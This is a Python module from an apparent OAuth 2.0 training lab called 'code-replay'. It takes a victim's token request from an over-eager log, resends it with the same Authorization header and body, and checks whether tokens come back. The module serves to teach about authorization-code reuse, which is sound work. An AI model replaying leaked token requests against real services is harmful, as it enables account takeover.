"""Lab "code-replay": a logged token request sent again (RFC 6749 §4.1.2, §10.5)."""

from __future__ import annotations

import requests
from flask import Config

from ..runner.capture import capture_session
from ..runner.capture import exchange_of
from . import client
from .catalogue import Lab
from .store import Run


def _logged(run: Run):
    """The client's token request, as its over-eager log kept it."""
    found = [e for e in run.entries("token") if e.actor == "victim"]
    return found[0].exchange if found else None


def attacker_view(run: Run, lab: Lab) -> dict:
    """The leaked log line, and a button to replay it."""
    logged = _logged(run)
    return {"leaked": logged.request.as_http() if logged else None,
            "button": "Replay the logged token request" if logged else None}


def attacker_act(run: Run, lab: Lab, config: Config) -> None:
    """Send the logged request again: same URL, credentials and form body."""
    logged = _logged(run)
    if logged is None or run.entries("replay"):
        return
    session = capture_session(requests.Session())
    headers = {"Authorization": logged.request.header("Authorization") or "",
               "Content-Type": "application/x-www-form-urlencoded"}
    response = session.post(logged.url, data=logged.request.body,
                            headers=headers, timeout=config["HTTP_TIMEOUT"],
                            allow_redirects=False)
    run.record("replay", "attacker", "back", exchange_of(session, response))


def recheck(run: Run, lab: Lab, config: Config) -> None:
    """The victim's client uses its access token again."""
    if run.client.get("access_token"):
        client.call_me(run, config, run.client["access_token"], key="recheck")


def succeeded(run: Run) -> bool | None:
    """On the wire: did the replayed request get tokens? None before the replay."""
    replay = run.entries("replay")
    if not replay or replay[-1].exchange.response is None:
        return None
    return replay[-1].exchange.response.start_line.split(" ")[1] == "200"
